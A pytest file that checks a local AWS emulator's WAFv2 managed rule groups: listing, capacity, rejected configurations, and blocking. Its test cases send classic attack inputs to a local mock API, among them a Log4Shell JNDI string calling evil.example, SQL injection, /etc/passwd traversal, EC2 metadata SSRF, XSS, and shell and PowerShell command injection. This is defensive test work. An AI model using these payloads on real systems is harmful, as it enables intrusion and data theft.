"""AWS managed rule groups (labcloud's documented subset, docs/wafv2.md): listed, described and versioned;
counted by CheckCapacity; refused by name where labcloud does not offer them; and filtering a REST API stage
with each group's key rules (a request blocked by the rule named, a plain one allowed), ExcludedRules,
RuleActionOverrides, ScopeDownStatement, OverrideAction Count, labels seen by later rules and sampled
requests naming the rule within the group."""

from __future__ import annotations

import http.client
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from botocore.exceptions import ClientError
from test_wafv2_filtering import mock_api, vis

from labcloud.testing.server_process import LabcloudProcess

GROUPS = {
    "AWSManagedRulesCommonRuleSet": 700,
    "AWSManagedRulesAdminProtectionRuleSet": 100,
    "AWSManagedRulesKnownBadInputsRuleSet": 200,
    "AWSManagedRulesSQLiRuleSet": 200,
    "AWSManagedRulesLinuxRuleSet": 200,
    "AWSManagedRulesUnixRuleSet": 100,
    "AWSManagedRulesWindowsRuleSet": 200,
    "AWSManagedRulesPHPRuleSet": 100,
    "AWSManagedRulesAmazonIpReputationList": 25,
    "AWSManagedRulesAnonymousIpList": 50,
    "AWSManagedRulesBotControlRuleSet": 50,
}
BROWSER = "Mozilla/5.0 (X11; Linux x86_64)"


def send(
    server: LabcloudProcess,
    api_id: str,
    path: str = "/items",
    method: str = "GET",
    body: bytes | None = None,
    headers: dict[str, str] | None = None,
) -> int:
    """One request to the stage with exactly ``headers`` (http.client adds no User-Agent; a ``Host`` given
    replaces its own)."""
    given = dict(headers or {})
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    try:
        connection.putrequest(
            method, f"/_labcloud/execute-api/{api_id}/prod{path}", skip_host="Host" in given
        )
        for name, value in given.items():
            connection.putheader(name, value)
        if body is not None:
            connection.putheader("Content-Length", str(len(body)))
        connection.endheaders(body)
        response = connection.getresponse()
        response.read()
        return response.status
    finally:
        connection.close()


def managed(name: str, priority: int = 0, override: str = "None", **statement: Any) -> dict[str, Any]:
    return {
        "Name": f"AWS-{name}",
        "Priority": priority,
        "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name, **statement}},
        "OverrideAction": {override: {}},
        "VisibilityConfig": vis(name),
    }


def samples(wafv2: Any, acl_arn: str, metric: str) -> list[dict[str, Any]]:
    now = datetime.now(timezone.utc)
    window = {"StartTime": now - timedelta(hours=1), "EndTime": now + timedelta(hours=1)}
    return list(
        wafv2.get_sampled_requests(
            WebAclArn=acl_arn, RuleMetricName=metric, Scope="REGIONAL", TimeWindow=window, MaxItems=100
        )["SampledRequests"]
    )


def code(caught: pytest.ExceptionInfo[ClientError]) -> str:
    return str(caught.value.response["Error"]["Code"])


def test_the_offered_groups_are_listed_described_and_versioned(labcloud: LabcloudProcess) -> None:
    wafv2: Any = labcloud.boto3_client("wafv2")
    listed = wafv2.list_available_managed_rule_groups(Scope="REGIONAL")["ManagedRuleGroups"]
    assert {g["Name"]: g["VendorName"] for g in listed} == {name: "AWS" for name in GROUPS}
    versioned = {g["Name"]: g["VersioningSupported"] for g in listed}
    assert versioned["AWSManagedRulesCommonRuleSet"] and not versioned["AWSManagedRulesAnonymousIpList"]
    first = wafv2.list_available_managed_rule_groups(Scope="REGIONAL", Limit=4)
    rest = wafv2.list_available_managed_rule_groups(Scope="REGIONAL", NextMarker=first["NextMarker"])
    assert [g["Name"] for g in first["ManagedRuleGroups"] + rest["ManagedRuleGroups"]] == list(GROUPS)
    for name, capacity in GROUPS.items():
        described = wafv2.describe_managed_rule_group(VendorName="AWS", Name=name, Scope="REGIONAL")
        assert described["Capacity"] == capacity
    crs = wafv2.describe_managed_rule_group(
        VendorName="AWS", Name="AWSManagedRulesCommonRuleSet", Scope="CLOUDFRONT"
    )
    assert crs["VersionName"] == "Version_1.0"
    assert crs["LabelNamespace"] == "awswaf:managed:aws:core-rule-set:"
    assert {"Name": "NoUserAgent_HEADER", "Action": {"Block": {}}} in crs["Rules"]
    assert {"Name": "SizeRestrictions_BODY", "Action": {"Block": {}}} in crs["Rules"]
    assert {"Name": "awswaf:managed:aws:core-rule-set:NoUserAgent_Header"} in crs["AvailableLabels"]
    assert len(crs["Rules"]) == len(crs["AvailableLabels"]) == 22 and crs["ConsumedLabels"] == []
    ips = wafv2.describe_managed_rule_group(
        VendorName="AWS", Name="AWSManagedRulesAmazonIpReputationList", Scope="REGIONAL"
    )
    assert "VersionName" not in ips
    assert {"Name": "AWSManagedIPDDoSList", "Action": {"Count": {}}} in ips["Rules"]
    versions = wafv2.list_available_managed_rule_group_versions(
        VendorName="AWS", Name="AWSManagedRulesSQLiRuleSet", Scope="REGIONAL"
    )
    assert [v["Name"] for v in versions["Versions"]] == ["Version_1.0"]
    assert versions["CurrentDefaultVersion"] == "Version_1.0"
    unversioned = wafv2.list_available_managed_rule_group_versions(
        VendorName="AWS", Name="AWSManagedRulesAnonymousIpList", Scope="REGIONAL"
    )
    assert unversioned["Versions"] == [] and "CurrentDefaultVersion" not in unversioned
    assert wafv2.list_managed_rule_sets(Scope="REGIONAL")["ManagedRuleSets"] == []


def test_describing_what_labcloud_does_not_offer_is_refused(labcloud: LabcloudProcess) -> None:
    wafv2: Any = labcloud.boto3_client("wafv2")
    with pytest.raises(ClientError) as caught:
        wafv2.describe_managed_rule_group(
            VendorName="AWS", Name="AWSManagedRulesATPRuleSet", Scope="REGIONAL"
        )
    assert code(caught) == "WAFInvalidParameterException"
    assert (
        "account takeover prevention (it needs the client-side tokens"
        in caught.value.response["Error"]["Message"]
    )
    assert caught.value.response["Field"] == "MANAGED_RULE_SET_STATEMENT"
    for vendor, name in (("F5", "OWASP_Managed"), ("AWS", "AWSManagedRulesNoSuchRuleSet")):
        with pytest.raises(ClientError) as caught:
            wafv2.describe_managed_rule_group(VendorName=vendor, Name=name, Scope="REGIONAL")
        assert code(caught) == "WAFNonexistentItemException"
    with pytest.raises(ClientError) as caught:
        wafv2.list_available_managed_rule_group_versions(VendorName="F5", Name="x", Scope="REGIONAL")
    assert code(caught) == "WAFNonexistentItemException"
    with pytest.raises(ClientError) as caught:
        wafv2.describe_managed_rule_group(
            VendorName="AWS", Name="AWSManagedRulesCommonRuleSet", Scope="REGIONAL", VersionName="Version_9.9"
        )
    assert code(caught) == "WAFInvalidParameterException"
    with pytest.raises(ClientError) as caught:
        wafv2.list_available_managed_rule_groups(Scope="REGIONAL", NextMarker="nope")
    assert code(caught) == "WAFInvalidParameterException"
    with pytest.raises(ClientError) as caught:
        wafv2.get_managed_rule_set(Name="mine", Scope="REGIONAL", Id="00000000-0000-4000-8000-000000000000")
    assert code(caught) == "WAFNonexistentItemException"


def test_check_capacity_counts_the_documented_capacity_and_the_scope_down(labcloud: LabcloudProcess) -> None:
    wafv2: Any = labcloud.boto3_client("wafv2")
    rules = [managed(name, i) for i, name in enumerate(GROUPS)]
    assert wafv2.check_capacity(Scope="REGIONAL", Rules=rules)["Capacity"] == sum(GROUPS.values())
    scoped = managed(
        "AWSManagedRulesSQLiRuleSet",
        ScopeDownStatement={
            "ByteMatchStatement": {
                "SearchString": "POST",
                "FieldToMatch": {"Method": {}},
                "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                "PositionalConstraint": "EXACTLY",
            }
        },
    )
    assert wafv2.check_capacity(Scope="REGIONAL", Rules=[scoped])["Capacity"] == 202


BAD_RULES: list[tuple[str, dict[str, Any], str, str]] = [
    (
        "bot control targeted",
        {
            "Name": "AWSManagedRulesBotControlRuleSet",
            "ManagedRuleGroupConfigs": [
                {"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "TARGETED"}}
            ],
        },
        "WAFInvalidParameterException",
        "TARGETED inspection level",
    ),
    (
        "bot control config elsewhere",
        {"ManagedRuleGroupConfigs": [{"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "COMMON"}}]},
        "WAFInvalidParameterException",
        "does not configure AWSManagedRulesCommonRuleSet",
    ),
    (
        "bot control with atp config",
        {
            "Name": "AWSManagedRulesBotControlRuleSet",
            "ManagedRuleGroupConfigs": [
                {"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "COMMON"}},
                {"AWSManagedRulesATPRuleSet": {"LoginPath": "/login"}},
            ],
        },
        "WAFInvalidParameterException",
        "ManagedRuleGroupConfigs",
    ),
    (
        "bot control targeted rule",
        {
            "Name": "AWSManagedRulesBotControlRuleSet",
            "RuleActionOverrides": [{"Name": "TGT_VolumetricSession", "ActionToUse": {"Count": {}}}],
        },
        "WAFInvalidParameterException",
        "TGT_VolumetricSession",
    ),
    ("atp", {"Name": "AWSManagedRulesATPRuleSet"}, "WAFInvalidParameterException", "account takeover"),
    ("acfp", {"Name": "AWSManagedRulesACFPRuleSet"}, "WAFInvalidParameterException", "account creation"),
    ("anti-ddos", {"Name": "AWSManagedRulesAntiDDoSRuleSet"}, "WAFInvalidParameterException", "anti-DDoS"),
    ("vendor", {"VendorName": "F5", "Name": "OWASP_Managed"}, "WAFSubscriptionNotFoundException", "F5"),
    ("unknown", {"Name": "AWSManagedRulesNoSuchRuleSet"}, "WAFNonexistentItemException", ""),
    ("version", {"Version": "Version_0.1"}, "WAFInvalidParameterException", "Version_0.1"),
    (
        "unversioned",
        {"Name": "AWSManagedRulesAnonymousIpList", "Version": "Version_1.0"},
        "WAFInvalidParameterException",
        "not versioned",
    ),
    ("excluded", {"ExcludedRules": [{"Name": "NoSuchRule"}]}, "WAFInvalidParameterException", "NoSuchRule"),
    (
        "override name",
        {"RuleActionOverrides": [{"Name": "NoSuchRule", "ActionToUse": {"Count": {}}}]},
        "WAFInvalidParameterException",
        "NoSuchRule",
    ),
    (
        "override captcha",
        {"RuleActionOverrides": [{"Name": "NoUserAgent_HEADER", "ActionToUse": {"Captcha": {}}}]},
        "WAFInvalidParameterException",
        "Captcha",
    ),
    (
        "override two actions",
        {"RuleActionOverrides": [{"Name": "NoUserAgent_HEADER", "ActionToUse": {"Count": {}, "Block": {}}}]},
        "WAFInvalidParameterException",
        "Exactly one member",
    ),
    (
        "override twice",
        {
            "RuleActionOverrides": [
                {"Name": "NoUserAgent_HEADER", "ActionToUse": {"Count": {}}},
                {"Name": "NoUserAgent_HEADER", "ActionToUse": {"Block": {}}},
            ]
        },
        "WAFInvalidParameterException",
        "more than once",
    ),
    (
        "configs",
        {"ManagedRuleGroupConfigs": [{"LoginPath": "/login"}]},
        "WAFInvalidParameterException",
        "ManagedRuleGroupConfigs",
    ),
    (
        "scope-down rate",
        {
            "ScopeDownStatement": {
                "RateBasedStatement": {"Limit": 100, "AggregateKeyType": "IP", "EvaluationWindowSec": 300}
            }
        },
        "WAFInvalidParameterException",
        "RateBasedStatement",
    ),
]


@pytest.mark.parametrize(("what", "statement", "error", "said"), BAD_RULES, ids=[b[0] for b in BAD_RULES])
def test_a_managed_statement_labcloud_cannot_honour_is_refused(
    labcloud: LabcloudProcess, what: str, statement: dict[str, Any], error: str, said: str
) -> None:
    wafv2: Any = labcloud.boto3_client("wafv2")
    rule = managed("AWSManagedRulesCommonRuleSet")
    rule["Statement"]["ManagedRuleGroupStatement"].update(statement)
    with pytest.raises(ClientError) as caught:
        wafv2.create_web_acl(
            Name=f"bad-{what.replace(' ', '-')}",
            Scope="REGIONAL",
            DefaultAction={"Allow": {}},
            Rules=[rule],
            VisibilityConfig=vis("bad"),
        )
    assert code(caught) == error
    assert said in caught.value.response["Error"]["Message"]
    with pytest.raises(ClientError) as again:
        wafv2.check_capacity(Scope="REGIONAL", Rules=[rule])
    assert code(again) == error


def test_where_a_managed_statement_may_stand(labcloud: LabcloudProcess) -> None:
    wafv2: Any = labcloud.boto3_client("wafv2")
    with_action = managed("AWSManagedRulesCommonRuleSet")
    del with_action["OverrideAction"]
    with_action["Action"] = {"Block": {}}
    nested = {
        "Name": "nested",
        "Priority": 0,
        "Action": {"Block": {}},
        "VisibilityConfig": vis("nested"),
        "Statement": {
            "NotStatement": {"Statement": managed("AWSManagedRulesSQLiRuleSet")["Statement"]},
        },
    }
    for rules, field in (([with_action], "OVERRIDE_ACTION"), ([nested], "STATEMENT")):
        with pytest.raises(ClientError) as caught:
            wafv2.create_web_acl(
                Name="where",
                Scope="REGIONAL",
                DefaultAction={"Allow": {}},
                Rules=rules,
                VisibilityConfig=vis("w"),
            )
        assert code(caught) == "WAFInvalidParameterException" and caught.value.response["Field"] == field
    with pytest.raises(ClientError) as caught:
        wafv2.create_rule_group(
            Name="holder",
            Scope="REGIONAL",
            Capacity=1000,
            Rules=[managed("AWSManagedRulesCommonRuleSet")],
            VisibilityConfig=vis("holder"),
        )
    assert code(caught) == "WAFInvalidParameterException"
    assert caught.value.response["Field"] == "MANAGED_RULE_SET_STATEMENT"
    too_many = [dict(managed("AWSManagedRulesCommonRuleSet", i), Name=f"crs-{i}") for i in range(8)]
    with pytest.raises(ClientError) as caught:
        wafv2.create_web_acl(
            Name="big",
            Scope="REGIONAL",
            DefaultAction={"Allow": {}},
            Rules=too_many,
            VisibilityConfig=vis("b"),
        )
    assert code(caught) == "WAFLimitsExceededException"


#: (group, what a request carries, the rule that blocks it).
CASES: list[tuple[str, dict[str, Any], str]] = [
    ("AWSManagedRulesBotControlRuleSet", {"headers": {"User-Agent": "curl/8.4.0"}}, "CategoryHttpLibrary"),
    (
        "AWSManagedRulesBotControlRuleSet",
        {"headers": {"User-Agent": "Scrapy/2.11"}},
        "CategoryScrapingFramework",
    ),
    (
        "AWSManagedRulesBotControlRuleSet",
        {"headers": {"User-Agent": "ShopApp/3.1 (iOS)"}},
        "SignalNonBrowserUserAgent",
    ),
    (
        "AWSManagedRulesBotControlRuleSet",
        {"headers": {"User-Agent": BROWSER + " HeadlessChrome/120.0"}},
        "SignalAutomatedBrowser",
    ),
    ("AWSManagedRulesCommonRuleSet", {"headers": {}}, "NoUserAgent_HEADER"),
    ("AWSManagedRulesCommonRuleSet", {"headers": {"User-Agent": "sqlmap/1.7"}}, "UserAgent_BadBots_HEADER"),
    ("AWSManagedRulesCommonRuleSet", {"path": "/items?q=" + "a" * 2100}, "SizeRestrictions_QUERYSTRING"),
    ("AWSManagedRulesCommonRuleSet", {"method": "POST", "body": b"x" * 9000}, "SizeRestrictions_BODY"),
    ("AWSManagedRulesCommonRuleSet", {"path": "/items/" + "p" * 1100}, "SizeRestrictions_URIPATH"),
    (
        "AWSManagedRulesCommonRuleSet",
        {"headers": {"Cookie": "s=" + "c" * 11000}},
        "SizeRestrictions_Cookie_HEADER",
    ),
    (
        "AWSManagedRulesCommonRuleSet",
        {"path": "/items?next=http://169.254.169.254/latest/meta-data/"},
        "EC2MetaDataSSRF_QUERYARGUMENTS",
    ),
    (
        "AWSManagedRulesCommonRuleSet",
        {"method": "POST", "body": b'{"url": "http://169.254.169.254/"}'},
        "EC2MetaDataSSRF_BODY",
    ),
    ("AWSManagedRulesCommonRuleSet", {"path": "/items?file=..%2F..%2Fsecret"}, "GenericLFI_QUERYARGUMENTS"),
    ("AWSManagedRulesCommonRuleSet", {"path": "/items/server.log"}, "RestrictedExtensions_URIPATH"),
    (
        "AWSManagedRulesCommonRuleSet",
        {"path": "/items?inc=http://203.0.113.9/x"},
        "GenericRFI_QUERYARGUMENTS",
    ),
    (
        "AWSManagedRulesCommonRuleSet",
        {"path": "/items?q=%3Cscript%3Ealert(1)%3C/script%3E"},
        "CrossSiteScripting_QUERYARGUMENTS",
    ),
    (
        "AWSManagedRulesKnownBadInputsRuleSet",
        {"headers": {"X-Api-Version": "${jndi:ldap://evil.example/a}"}},
        "Log4JRCE_HEADER",
    ),
    ("AWSManagedRulesKnownBadInputsRuleSet", {"headers": {"Host": "localhost"}}, "Host_localhost_HEADER"),
    ("AWSManagedRulesKnownBadInputsRuleSet", {"method": "PROPFIND"}, "PROPFIND_METHOD"),
    ("AWSManagedRulesKnownBadInputsRuleSet", {"path": "/items/WEB-INF/web.xml"}, "ExploitablePaths_URIPATH"),
    (
        "AWSManagedRulesKnownBadInputsRuleSet",
        {"method": "POST", "body": b"rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"},
        "JavaDeserializationRCE_BODY",
    ),
    ("AWSManagedRulesSQLiRuleSet", {"path": "/items?id=1%27%20or%20%271%27=%271"}, "SQLi_QUERYARGUMENTS"),
    (
        "AWSManagedRulesSQLiRuleSet",
        {"path": "/items?q=select%20name%20from%20users"},
        "SQLiExtendedPatterns_QUERYARGUMENTS",
    ),
    ("AWSManagedRulesSQLiRuleSet", {"headers": {"Cookie": "s=1' or 1=1--"}}, "SQLi_COOKIE"),
    ("AWSManagedRulesLinuxRuleSet", {"path": "/items?file=/etc/passwd"}, "LFI_QUERYSTRING"),
    ("AWSManagedRulesLinuxRuleSet", {"headers": {"X-Path": "/proc/self/environ"}}, "LFI_HEADER"),
    (
        "AWSManagedRulesUnixRuleSet",
        {"path": "/items?host=x%3Bcat%20/etc/hosts"},
        "UNIXShellCommandsVariables_QUERYSTRING",
    ),
    (
        "AWSManagedRulesUnixRuleSet",
        {"method": "POST", "body": b"name=$(whoami)"},
        "UNIXShellCommandsVariables_BODY",
    ),
    ("AWSManagedRulesAdminProtectionRuleSet", {"path": "/admin/users"}, "AdminProtection_URIPATH"),
    (
        "AWSManagedRulesPHPRuleSet",
        {"path": "/items?x=system(%27id%27)"},
        "PHPHighRiskMethodsVariables_QUERYSTRING",
    ),
    (
        "AWSManagedRulesPHPRuleSet",
        {"method": "POST", "body": b"page=php://filter/resource=index"},
        "PHPHighRiskMethodsVariables_BODY",
    ),
    (
        "AWSManagedRulesWindowsRuleSet",
        {"path": "/items?c=cmd.exe%20/c%20dir"},
        "WindowsShellCommands_QUERYARGUMENTS",
    ),
    (
        "AWSManagedRulesWindowsRuleSet",
        {"path": "/items?c=powershell%20-enc%20SQBFAFgA"},
        "PowerShellCommands_QUERYARGUMENTS",
    ),
]


def test_each_groups_key_rules_block_and_plain_requests_pass(labcloud: LabcloudProcess) -> None:
    wafv2: Any = labcloud.boto3_client("wafv2")
    api_id, stage_arn = mock_api(labcloud.boto3_client("apigateway"))
    acl = wafv2.create_web_acl(
        Name="managed",
        Scope="REGIONAL",
        DefaultAction={"Allow": {}},
        Rules=[],
        VisibilityConfig=vis("managed"),
    )["Summary"]
    wafv2.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=stage_arn)
    token = acl["LockToken"]
    for group in GROUPS:
        token = wafv2.update_web_acl(
            Name="managed",
            Scope="REGIONAL",
            Id=acl["Id"],
            DefaultAction={"Allow": {}},
            Rules=[managed(group)],
            VisibilityConfig=vis("managed"),
            LockToken=token,
        )["NextLockToken"]
        # a plain request from a browser passes every group
        assert send(labcloud, api_id, headers={"User-Agent": BROWSER}) == 200, group
        assert send(labcloud, api_id, "/items?q=shoes&page=2", headers={"User-Agent": BROWSER}) == 200, group
        form = b"one=1&online=yes&note=Please+select+a+date+from+the+calendar&path=docs%2Findex.html"
        assert send(labcloud, api_id, "/items", "POST", form, {"User-Agent": BROWSER}) == 200, group
        for case_group, request, expected in CASES:
            if case_group != group:
                continue
            headers = {"User-Agent": BROWSER, **request.get("headers", {})}
            if not request.get("headers", True):  # {} means: no header at all
                headers = {}
            status = send(
                labcloud,
                api_id,
                request.get("path", "/items"),
                request.get("method", "GET"),
                request.get("body"),
                headers,
            )
            assert status == 403, expected
            newest = samples(wafv2, acl["ARN"], group)[-1]
            assert newest["RuleNameWithinRuleGroup"] == expected and newest["Action"] == "BLOCK"
            assert newest["Request"]["Method"] == request.get("method", "GET")
    covered = {rule for _, _, rule in CASES}
    assert len(covered) == len(CASES)


def test_excluded_rules_overrides_scope_down_count_and_labels(labcloud: LabcloudProcess) -> None:
    wafv2: Any = labcloud.boto3_client("wafv2")
    api_id, stage_arn = mock_api(labcloud.boto3_client("apigateway"))
    label_rule = {
        "Name": "no-agent-label",
        "Priority": 9,
        "Statement": {
            "LabelMatchStatement": {
                "Scope": "LABEL",
                "Key": "awswaf:managed:aws:core-rule-set:NoUserAgent_Header",
            }
        },
        "Action": {"Block": {"CustomResponse": {"ResponseCode": 418}}},
        "VisibilityConfig": vis("no-agent-label"),
    }
    namespace_rule = {
        "Name": "bad-inputs-namespace",
        "Priority": 10,
        "Statement": {
            "LabelMatchStatement": {"Scope": "NAMESPACE", "Key": "awswaf:managed:aws:known-bad-inputs:"}
        },
        "Action": {"Block": {"CustomResponse": {"ResponseCode": 409}}},
        "VisibilityConfig": vis("bad-inputs-namespace"),
    }
    rules = [
        managed(
            "AWSManagedRulesCommonRuleSet",
            0,
            ExcludedRules=[{"Name": "NoUserAgent_HEADER"}],
            RuleActionOverrides=[
                {"Name": "SizeRestrictions_BODY", "ActionToUse": {"Count": {}}},
                {
                    "Name": "UserAgent_BadBots_HEADER",
                    "ActionToUse": {"Block": {"CustomResponse": {"ResponseCode": 451}}},
                },
            ],
        ),
        managed(
            "AWSManagedRulesSQLiRuleSet",
            1,
            ScopeDownStatement={
                "ByteMatchStatement": {
                    "SearchString": "POST",
                    "FieldToMatch": {"Method": {}},
                    "TextTransformations": [{"Priority": 0, "Type": "NONE"}],
                    "PositionalConstraint": "EXACTLY",
                }
            },
        ),
        managed("AWSManagedRulesKnownBadInputsRuleSet", 2, override="Count"),
        label_rule,
        namespace_rule,
    ]
    acl = wafv2.create_web_acl(
        Name="tuned",
        Scope="REGIONAL",
        DefaultAction={"Allow": {}},
        Rules=rules,
        VisibilityConfig=vis("tuned"),
    )["Summary"]
    assert wafv2.get_web_acl(Name="tuned", Scope="REGIONAL", Id=acl["Id"])["WebACL"]["Capacity"] == 1104
    wafv2.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=stage_arn)
    ua = {"User-Agent": BROWSER}
    # excluded: counted, not blocked, but its label reaches the later rule
    assert send(labcloud, api_id, headers={}) == 418
    counted = samples(wafv2, acl["ARN"], "AWSManagedRulesCommonRuleSet")[-1]
    assert counted["Action"] == "COUNT"
    assert {"Name": "awswaf:managed:aws:core-rule-set:NoUserAgent_Header"} in counted["Labels"]
    # overridden to Count: the big body passes; overridden to a custom Block: its status
    assert send(labcloud, api_id, "/items", "POST", b"x" * 9000, ua) == 200
    assert send(labcloud, api_id, headers={"User-Agent": "Nikto/2.5"}) == 451
    # scoped down to POST: a GET with an injection passes, a POST is blocked
    injected = "/items?id=1%27%20or%20%271%27=%271"
    assert send(labcloud, api_id, injected, headers=ua) == 200
    assert send(labcloud, api_id, injected, "POST", b"{}", ua) == 403
    # the group's OverrideAction Count: PROPFIND is only counted, and its label blocks at the later rule
    assert send(labcloud, api_id, "/items", "PROPFIND", headers=ua) == 409
    blocked = samples(wafv2, acl["ARN"], "bad-inputs-namespace")[-1]
    assert {"Name": "awswaf:managed:aws:known-bad-inputs:Propfind_Method"} in blocked["Labels"]
    assert "RuleNameWithinRuleGroup" not in blocked
    assert send(labcloud, api_id, headers=ua) == 200


def test_a_request_several_rules_of_a_counted_group_match_is_sampled_once(labcloud: LabcloudProcess) -> None:
    wafv2: Any = labcloud.boto3_client("wafv2")
    api_id, stage_arn = mock_api(labcloud.boto3_client("apigateway"))
    acl = wafv2.create_web_acl(
        Name="counted",
        Scope="REGIONAL",
        DefaultAction={"Allow": {}},
        Rules=[
            managed(
                "AWSManagedRulesCommonRuleSet",
                override="Count",
                ExcludedRules=[{"Name": "NoUserAgent_HEADER"}],
            )
        ],
        VisibilityConfig=vis("counted"),
    )["Summary"]
    wafv2.associate_web_acl(WebACLArn=acl["ARN"], ResourceArn=stage_arn)
    # no User-Agent (excluded: counts, evaluation goes on) and a metadata address (blocks, the group's
    # OverrideAction makes it a count): two of the group's rules count the request
    assert send(labcloud, api_id, "/items?u=http://169.254.169.254/", headers={}) == 200
    (sample,) = samples(wafv2, acl["ARN"], "AWSManagedRulesCommonRuleSet")
    assert sample["Action"] == "COUNT"
    assert {label["Name"] for label in sample["Labels"]} == {
        "awswaf:managed:aws:core-rule-set:NoUserAgent_Header",
        "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments",
    }
